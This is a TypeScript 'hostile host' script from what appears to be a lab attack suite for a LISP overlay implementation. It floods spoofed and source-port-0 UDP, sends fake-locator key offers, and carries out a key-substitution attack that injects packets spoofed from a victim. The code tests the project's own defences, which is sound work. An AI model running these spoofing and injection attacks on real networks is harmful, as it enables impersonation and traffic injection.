// The hostile host of the attack suite, run in its lab namespace (`ip netns exec <ns> node
// hostile-host.js <plan.json>`): carries out one of issue 12's attacks and prints one JSON line
// saying what it sent. Spoofed sources are IP_TRANSPARENT sockets (the kernel still writes the
// headers); a UDP source port of 0, which no socket can have, is a packet written into a TUN
// device of this namespace, which forwards it to the underlay.
//
//   send           given datagrams (base64), cycled `count` times at `perSecond`, optionally from
//                  a spoofed source, or from source port 0
//   fake-locators  forwarded-style key offers (ECM, E) naming `count` distinct locators in 198.18.1.0 - 198.19.255.255
//                  (cycled, each round under the next key-id, when count is larger)
//   inject         the key-substitution attack: learn the ETR's X25519 key from a reply to our own
//                  offer, offer the same key for the victim's locator (directly or through the
//                  map-server), then send packets spoofed from the victim, sealed under that key
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { suiteLayout } from '../../src/crypto/cipher-suite.js';
import type { KeyId } from '../../src/crypto/session.js';
import { deriveDataPlaneKeys, x25519FromPrivate } from '../../src/crypto/x25519-kdf.js';
import { decodeControl } from '../../src/lisp/control.js';
import { formatIpv4 } from '../../src/lisp/ip-text.js';
import { offeredKey } from '../../src/lisp/xtr-control/key-exchange.js';
import { cipherBackend } from '../../src/node/cipher-backends.js';
import { openTun } from '../../src/tun/tun-device.js';
import { openBatchUdpSocket } from '../../src/tun/udp-socket.js';
import { forwardedKeyOffer, keyOfferEcm, keyOfferRequest } from './attack-messages.js';
import { ipUdpPacket } from './ip-packet.js';
import { pacedSend, type PacedReport } from './paced-send.js';

export type HostilePlan =
  | {
      readonly kind: 'send';
      readonly target: string;
      readonly port: number;
      readonly payloads: readonly string[];
      readonly count: number;
      readonly perSecond: number;
      /** Send as this address (and port, 0 = any): IP_TRANSPARENT. */
      readonly spoof?: { readonly address: string; readonly port: number };
      /** Send from UDP source port 0, as this (non-local) address, through a TUN device. */
      readonly sourcePortZero?: { readonly address: string };
    }
  | { readonly kind: 'fake-locators'; readonly target: string; readonly eid: string; readonly count: number; readonly perSecond: number }
  | {
      readonly kind: 'inject';
      /** The ETR under attack, its EID, the victim ITR's locator and EID. */
      readonly target: string;
      readonly targetEid: string;
      readonly victim: string;
      readonly victimEid: string;
      /** Our own locator: the ETR answers our first offer there. */
      readonly own: string;
      readonly ownEid: string;
      /** Offer for the victim straight to the ETR, or as an ECM through the map-server. */
      readonly via: { readonly kind: 'direct' } | { readonly kind: 'map-server'; readonly address: string };
      readonly keyId: KeyId;
      readonly count: number;
      readonly gapMs: number;
      /** Carried in every injected packet (UDP to port 9 of targetEid). */
      readonly marker: string;
    };

export type HostileReport = PacedReport & { readonly learnedKey?: boolean };

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
const nonce = (): bigint => randomBytes(8).readBigUInt64BE(0);

async function send(plan: Extract<HostilePlan, { kind: 'send' }>): Promise<PacedReport> {
  const payloads = plan.payloads.map((p) => Buffer.from(p, 'base64'));
  if (plan.sourcePortZero) return sendFromPortZero(plan, payloads, plan.sourcePortZero.address);
  const socket = openBatchUdpSocket({ family: 4, address: plan.spoof?.address ?? '0.0.0.0', port: plan.spoof?.port ?? 0, transparent: plan.spoof !== undefined, sendBuffer: 4 << 20 });
  try {
    return await pacedSend(socket, plan.count, plan.perSecond, 600_000, (i, slot) => {
      const p = payloads[i % payloads.length] ?? Buffer.alloc(0);
      slot.set(p);
      return { length: p.length, address: plan.target, port: plan.port, tag: 'sent' };
    });
  } finally {
    socket.close();
  }
}

/** Whole IPv4/UDP packets with source port 0, written into a TUN and forwarded out of eth0. */
async function sendFromPortZero(plan: Extract<HostilePlan, { kind: 'send' }>, payloads: readonly Uint8Array[], source: string): Promise<PacedReport> {
  const tun = openTun({ name: 'evil0', mtu: 1500 });
  try {
    // Packets "arriving" on evil0 from a foreign source must be forwarded, not refused by rp_filter.
    for (const setting of ['net.ipv4.ip_forward=1', 'net.ipv4.conf.all.rp_filter=0', 'net.ipv4.conf.evil0.rp_filter=0']) execFileSync('sysctl', ['-qw', setting]);
    const started = Date.now();
    let sent = 0;
    for (let i = 0; i < plan.count; i++) {
      const packet = ipUdpPacket({ source, destination: plan.target, sourcePort: 0, destinationPort: plan.port, payload: payloads[i % payloads.length] ?? new Uint8Array(0) });
      sent += tun.writeBatch([packet], Uint32Array.of(0), Uint32Array.of(packet.length), 1);
      await sleep(1000 / plan.perSecond);
    }
    await sleep(200);
    return { sent: { sent }, failed: {}, unsent: plan.count - sent, elapsedMs: Date.now() - started, firstErrno: tun.stats().lastWriteError };
  } finally {
    tun.close();
  }
}

async function fakeLocators(plan: Extract<HostilePlan, { kind: 'fake-locators' }>): Promise<PacedReport> {
  // 198.18.1.0 .. 198.19.255.255: none is the lab's (198.18.0.0/24), and the ETR has no route to any.
  const first = (198 << 24) | (18 << 16) | (1 << 8);
  const distinct = 2 * 65536 - 256;
  const publicKey = x25519FromPrivate(randomBytes(32)).publicKey;
  const socket = openBatchUdpSocket({ family: 4, address: '0.0.0.0', port: 0, sendBuffer: 4 << 20 });
  const address = new Uint8Array(4);
  try {
    return await pacedSend(socket, plan.count, plan.perSecond, 3_600_000, (i, slot) => {
      const a = (first + (i % distinct)) >>> 0;
      address.set([a >>> 24, (a >>> 16) & 0xff, (a >>> 8) & 0xff, a & 0xff]);
      const keyId = ((Math.floor(i / distinct) % 3) + 1) as KeyId;
      // As a forwarded request (E): the ETR agrees a key for the locator it names, wherever it came from.
      const bytes = forwardedKeyOffer({ nonce: BigInt(i), eid: plan.eid, locator: formatIpv4(address), publicKey, keyId, innerSource: formatIpv4(address) });
      slot.set(bytes);
      return { length: bytes.length, address: plan.target, port: 4342, tag: 'sent' };
    });
  } finally {
    socket.close();
  }
}

async function inject(plan: Extract<HostilePlan, { kind: 'inject' }>): Promise<HostileReport> {
  const attacker = x25519FromPrivate(randomBytes(32));
  // 1. Our own offer: the ETR answers it with its responder key.
  const control = createSocket('udp4');
  await new Promise<void>((resolve) => control.bind(0, plan.own, resolve));
  const answer = new Promise<Uint8Array | undefined>((resolve) => {
    const timer = setTimeout(() => resolve(undefined), 3000);
    control.on('message', (bytes) => {
      const m = decodeControl(new Uint8Array(bytes));
      if (!m.ok || m.value.type !== 'map-reply') return;
      for (const r of m.value.records) {
        for (const l of r.locators) {
          const k = offeredKey(l.locator);
          if (k.kind === 'key') {
            clearTimeout(timer);
            resolve(k.publicKey);
            return;
          }
        }
      }
    });
  });
  control.send(keyOfferRequest({ nonce: nonce(), eid: plan.targetEid, locator: plan.own, publicKey: attacker.publicKey, keyId: plan.keyId }), 4342, plan.target);
  const etrPublic = await answer;
  // 2. The same key offered for the victim's locator.
  const offer = { nonce: nonce(), eid: plan.targetEid, locator: plan.victim, publicKey: attacker.publicKey, keyId: plan.keyId };
  if (plan.via.kind === 'direct') control.send(keyOfferRequest(offer), 4342, plan.target);
  else control.send(keyOfferEcm({ ...offer, innerSource: plan.ownEid, innerSourcePort: 4342 }), 4342, plan.via.address);
  await sleep(500);
  control.close();
  if (!etrPublic) return { sent: {}, failed: {}, unsent: plan.count, elapsedMs: 0, firstErrno: undefined, learnedKey: false };
  // 3. Packets from the victim's locator, sealed under the key the ETR now holds for it.
  const keys = deriveDataPlaneKeys(attacker, etrPublic);
  const context = cipherBackend('native').createContext(5, keys.encryptKey, keys.icvKey);
  const layout = suiteLayout(5);
  const salt = randomBytes(4);
  const inner = ipUdpPacket({ source: plan.victimEid, destination: plan.targetEid, sourcePort: 40000, destinationPort: 9, payload: Buffer.from(plan.marker) });
  const length = new Uint32Array(1);
  const socket = openBatchUdpSocket({ family: 4, address: plan.victim, port: 4341, transparent: true });
  try {
    const report = await pacedSend(socket, plan.count, 1000 / plan.gapMs, 60_000, (i, slot) => {
      slot.set([plan.keyId, 0, 0, 0, 0, 0, 0, 0], 0);
      slot.set(salt, 8);
      slot.set([0, 0, 0, 0, 0, 0, (i + 1) >>> 8, (i + 1) & 0xff], 12);
      slot.set(inner, 8 + layout.ivLength);
      length[0] = 8 + layout.ivLength + inner.length;
      context.sealBatch([slot], length, 1);
      return { length: length[0] ?? 0, address: plan.target, port: 4341, tag: 'sent' };
    });
    return { ...report, learnedKey: true };
  } finally {
    socket.close();
    context.close();
  }
}

async function main(): Promise<void> {
  const file = process.argv[2];
  if (!file) throw new Error('usage: hostile-host.js <plan.json>');
  const plan = JSON.parse(readFileSync(file, 'utf8')) as HostilePlan;
  let report: HostileReport;
  switch (plan.kind) {
    case 'send':
      report = await send(plan);
      break;
    case 'fake-locators':
      report = await fakeLocators(plan);
      break;
    case 'inject':
      report = await inject(plan);
      break;
  }
  process.stdout.write(`${JSON.stringify(report)}\n`);
}

await main();
